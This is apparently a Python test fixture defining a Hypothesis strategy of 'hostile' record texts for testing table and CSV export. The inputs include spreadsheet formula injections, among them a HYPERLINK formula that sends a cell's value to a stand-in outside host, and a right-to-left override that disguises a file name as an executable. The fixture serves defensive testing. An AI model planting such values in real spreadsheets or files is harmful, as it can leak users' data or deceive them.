"""Texts that break careless tables."""

from __future__ import annotations

from hypothesis import strategies as st

HOSTILE = (
    "=1+1",
    '=HYPERLINK("http://example.com/?"&A1)',
    "+86 138 0013 8000",
    "-2+3",
    "@SUM(A1)",
    "\tx",
    "\rx",
    "'",
    "''",
    "'=x",
    "''=x",
    "'t Hooft",
    "",
    '"',
    'a"b""c',
    "a,b;c\td|e",
    "one\ntwo",
    "one\r\ntwo",
    "one\rtwo",
    " ends with spaces ",
    "\u202etxt.exe",
    "\u2066bidi\u2069",
    "\ufeffmark",
    "＝１＋１",
    "１２３",
    "00123",
    "1E5",
    "0x1F",
    "2022-01-01",
    "TRUE",
    "NULL",
    "#N/A",
    "_x000D_",
    "_x005F_x000D_",
    "\x01\x1f\x7f\x85\u2028",
    "\ufffe\uffff",
    "𠮷野家 👨‍👩‍👧",
    "e\u0301",
    "x" * 1_000,
)

texts = st.sampled_from(HOSTILE) | st.text(
    st.characters(exclude_categories=["Cs"], exclude_characters="\0"), max_size=40
)
"""What a text of a record may be."""
